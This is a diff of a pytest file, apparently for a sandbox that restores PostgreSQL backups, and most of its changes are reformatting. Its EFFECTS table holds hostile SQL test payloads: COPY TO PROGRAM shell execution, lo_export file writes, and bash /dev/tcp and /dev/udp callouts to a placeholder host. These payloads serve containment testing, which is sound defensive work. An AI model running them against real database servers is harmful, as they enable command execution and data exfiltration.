@@ -245,9 +245,7 @@ def test_what_never_ends_can_be_interrupted(server: Server, maker: Maker, form: 
 
 
 @pytest.mark.parametrize("form", ["script", "archive"])
-def test_what_fills_the_disk_is_ended(
-    server: Server, maker: Maker, form: str, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_what_fills_the_disk_is_ended(server: Server, maker: Maker, form: str, monkeypatch: pytest.MonkeyPatch) -> None:
     backup = inspect(_made(maker, FILLS, form), work=maker.folder / "work")
     free = shutil.disk_usage(server.place).free
     monkeypatch.setattr(room, "KEPT_FREE", free - (200 << 20))
@@ -282,8 +280,10 @@ def test_a_superuser_would_run_it(
 EFFECTS = {
     "files: program": ("files", "COPY (SELECT 1) TO PROGRAM 'touch {d}/program'"),
     "files: copy": ("files", "COPY (SELECT 1) TO '{d}/copied'"),
-    "files: export": ("files", "SELECT lo_from_bytea(4711, 'x'); SELECT lo_export(4711, '{d}/exported');"
-                      " --SELECT lo_unlink(4711)"),
+    "files: export": (
+        "files",
+        "SELECT lo_from_bytea(4711, 'x'); SELECT lo_export(4711, '{d}/exported'); --SELECT lo_unlink(4711)",
+    ),
     "came: tcp": ("came", "COPY (SELECT 1) TO PROGRAM 'bash -c \"echo x > /dev/tcp/{host}/{port}\"'"),
     "came: udp": ("came", "COPY (SELECT 1) TO PROGRAM 'bash -c \"echo x > /dev/udp/{host}/{port}\"'"),
     "programs": ("programs", "COPY (SELECT 1) TO PROGRAM 'cat > /dev/null; (sleep 5; : {d}) > /dev/null 2>&1 &'"),
